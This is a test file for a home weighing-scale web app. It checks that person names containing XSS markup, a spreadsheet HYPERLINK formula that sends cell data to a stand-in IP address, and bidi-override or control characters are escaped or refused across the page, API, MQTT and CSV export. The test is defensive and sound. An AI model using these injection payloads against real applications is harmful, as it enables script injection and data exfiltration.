import { describe, expect, test } from 'vitest';
import { places, Tab } from './browsing.js';
import { ana, haveAll, livedIn, mic, startSinks } from './lived-in.js';

/** Names that are meant to break something: on the page, in InfluxDB, at the broker, in a spreadsheet. */

const evil = `O'Neil, "Mic" <script>alert(1)</script> <img src=x> 👩‍🔬`;
const formula = '=HYPERLINK("http://203.0.113.9/?"&A1)';

/** Fills in the name of a person's form, and sends it. */
async function named(tab: Tab, name: string, button: 'Save' | 'Add'): Promise<void> {
  await tab.page.getByLabel('Name', { exact: true }).fill(name);
  await tab.page.getByRole('dialog').getByRole('button', { name: button, exact: true }).click();
}

describe.skipIf(!haveAll)('a name', () => {
  test('with quotes, markup, emoji or a formula is a name everywhere, and nothing is done by it', async () => {
    const sinks = await startSinks();
    const { house, scale, url } = await livedIn(sinks.flags);
    const tab = await Tab.open(url, '#/people');
    const scripts = await tab.page.locator('script').count();
    await tab.page.getByRole('button', { name: 'Edit MIC' }).click();
    await named(tab, evil, 'Save');
    await tab.page.getByRole('heading', { level: 2, name: evil, exact: true }).waitFor();
    await tab.page.getByRole('button', { name: 'Edit ANA' }).click();
    await named(tab, formula, 'Save');
    await tab.page.getByRole('heading', { level: 2, name: formula, exact: true }).waitFor();
    scale.weigh(77.7);
    await scale.visit();

    for (const [place, headline] of places) {
      await tab.visit(place, headline);
      if (['Overview', 'Weigh-ins', 'People'].includes(headline)) await tab.shows('main', evil);
    }
    expect(await tab.page.locator('script').count()).toBe(scripts);
    expect(await tab.page.locator('main img').count()).toBe(0);
    tab.expectHarmless();

    await expect
      .poll(() => sinks.weights(), { timeout: 15_000 })
      .toEqual([`${evil} 77`, `${formula} 60`, `${evil} 77.7`]);
    const discovered = async (key: string) => {
      const found = await sinks.retained(`homeassistant/device/scaletap_person_${key}/config`);
      return found?.device;
    };
    await expect.poll(() => discovered(mic.key)).toMatchObject({ name: evil });
    await expect.poll(() => discovered(ana.key)).toMatchObject({ name: formula });
    const csv = (await house.command('readings', '--csv')).stdout;
    expect(csv).toContain(`,"${evil.replaceAll('"', '""')}",`);
    expect(csv).toContain(`,"'${formula.replaceAll('"', '""')}",`);
  });

  test('on two lines, that turns the line around, or that somebody has already, is refused', async () => {
    const { url } = await livedIn();
    const tab = await Tab.open(url, '#/people');
    const { people: before } = await ask(tab, 'GET', 'people');
    for (const name of [
      'Mic\nele',
      'Mic\u2028ele',
      '\u202eeleciM',
      '\ud83d',
      '\u0000',
      ' ',
      'x'.repeat(65),
    ]) {
      expect(await ask(tab, 'POST', 'people', { name })).toEqual({ message: expect.stringMatching(/^name/) });
    }
    await tab.page.getByRole('button', { name: 'Add somebody' }).click();
    await named(tab, 'ANA', 'Add');
    await tab.shows('dialog .error', 'ANA');
    await named(tab, 'Eva', 'Add');
    await tab.page.getByRole('heading', { level: 2, name: 'Eva' }).waitFor();
    const { people: after } = await ask(tab, 'GET', 'people');
    expect(after).toHaveLength(Array(before).flat().length + 1);
    tab.expectHarmless();
  });
});

/** Asks the API as the page does. */
async function ask(tab: Tab, method: string, path: string, body?: object): Promise<Record<string, unknown>> {
  const options = {
    method,
    ...(body && { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) }),
  };
  return tab.page.evaluate(
    `fetch('api/${path}', ${JSON.stringify(options)}).then((answer) => answer.json())`,
  );
}
